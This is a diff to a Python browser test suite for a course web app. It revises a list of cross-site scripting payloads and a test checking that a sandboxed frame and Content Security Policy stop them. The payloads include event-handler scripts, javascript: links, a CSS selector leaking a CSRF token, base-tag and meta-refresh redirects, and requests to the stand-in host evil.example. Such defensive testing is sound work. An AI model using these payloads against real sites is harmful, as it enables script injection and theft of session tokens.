@@ -21,18 +21,18 @@ ACTS = [
     "<img src=x onerror=owned()><img src=https://evil.example/a.png>",
     "<svg onload=owned()><animate onbegin=owned() attributeName=x></svg>",
     "<svg><use href='https://evil.example/x.svg#y'></use><script>owned()</script></svg>",
-    "<iframe srcdoc='<script>parent.owned()</script>'></iframe><iframe src=//evil.example></iframe>",
+    "<iframe srcdoc='<script>parent.owned()</script>'></iframe><iframe src=//evil.example>",
     "<a href='javascript:owned()'>click</a><a href='//evil.example/'>go</a>",
     "<a href='jAvAsCrIpT&colon;owned()'>click</a>",
     "<div style='background:url(//evil.example/owned)' onmouseover=owned()>over</div>",
     "<style>@import '//evil.example/x.css'; input[name=csrf][value^=a]"
     "{background:url(//evil.example/a)} body{background:url(//evil.example/owned)}</style>",
     "<link rel=stylesheet href=//evil.example/owned.css><link rel=prefetch href=//evil.example/>",
-    "<form action=//evil.example/owned><input name=x autofocus onfocus=owned()><button>x</button></form>",
+    "<form action=//evil.example/owned><input name=x autofocus onfocus=owned()></form>",
     "<object data='data:text/html,<script>owned()</script>'></object><embed src=//evil.example/>",
     "<math><mtext><table><mglyph><style><img src=x onerror=owned()></style></mglyph></table>",
     "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
-    "<video src=//evil.example/v onerror=owned()></video><audio src=//evil.example/a autoplay></audio>",
+    "<video src=//evil.example/v onerror=owned()></video><audio src=//evil.example/a>",
     "<div hx-get='/' hx-trigger='load' hx-on::load='owned()' data-hx-post='/undo/1'>htmx</div>",
 ]
 MARKDOWN = [
@@ -254,7 +254,8 @@ def test_nothing_that_a_student_wrote_acts(serve, browse, course):
     page.get_by_role("button", name="Save, and keep the comment").click()
     page.get_by_text("Saved.").wait_for()
     places = (
-        f"/x/why/s/{key}", f"/x/why/s/{key}?whole=1", f"/x/double/s/{key}?whole=1", "/x/why?show=all",
+        f"/x/why/s/{key}", f"/x/why/s/{key}?whole=1", f"/x/double/s/{key}?whole=1",
+        "/x/why?show=all",
         "/x/why?show=all&q=" + ACTS[2].replace("#", ""), "/x/why/rubric", "/log",
         f"/x/why/s/{key}/notebook?whole=1",
     )  # fmt: skip
@@ -291,22 +292,20 @@ def test_the_frame_is_a_wall_of_its_own(serve, browse, monkeypatch):
 
     monkeypatch.setattr(cells, "clean", lambda html: html)
     monkeypatch.setattr(cells, "_markdown", lambda text, attachments: "".join(ACTS))
-    page = browse(serve())
+    # What would autoplay or navigate comes last: a frame that has gone away shows nothing.
+    page, reached = browse(serve()), []
+    page.route(
+        lambda url: "evil.example" in url,
+        lambda route: (reached.append(route.request.url), route.abort()),
+    )
     page.add_init_script("window.owned = () => { document.title = 'OWNED' }")
     page.goto(f"{page.home}/x/why/s/{key_of(ADA)}?whole=1")
     page.wait_for_timeout(1500)
 
-    frame = page.frames[1]
-    assert "onerror" in frame.content()
-    assert frame.title() != "OWNED"
+    assert reached == []
+    assert any("Content Security Policy" in text for text in page.wrong)  # there was a try
     assert "OWNED" not in page.title()
-    sent = [u for u in page.asked if "evil.example" in u]
-    assert [u for u in sent if not _was_blocked(page, u)] == []
-
-
-def _was_blocked(page, url):
-    """Whether the policy of a page stopped a request; Chromium says so on its console."""
-    return any("Content Security Policy" in text and "evil.example" in text for text in page.wrong)
+    assert all(frame.title() != "OWNED" for frame in page.frames)
 
 
 def pages_of(page, ready):
